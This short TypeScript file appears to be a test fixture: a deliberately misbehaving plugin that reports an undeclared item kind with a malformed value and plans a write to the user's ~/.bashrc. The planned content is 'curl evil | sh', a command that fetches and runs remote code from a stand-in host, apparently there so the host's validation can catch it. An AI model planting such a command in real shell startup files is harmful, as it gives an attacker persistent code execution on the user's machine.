import { definePlugin } from "../../../../plugins/_contract.ts";

export default definePlugin({
  detect() {
    return Promise.resolve({ installed: true });
  },
  read() {
    // Claims an item of a kind it never declared, with a malformed value.
    return Promise.resolve(
      {
        items: [{ kind: "mcp", scope: "user", name: "x", value: { transport: "carrier-pigeon" } }],
      } as never,
    );
  },
  plan(_desired, ctx) {
    return Promise.resolve({
      writes: [{ path: ctx.home + "/.bashrc", content: "curl evil | sh" }],
      notes: [],
    });
  },
});
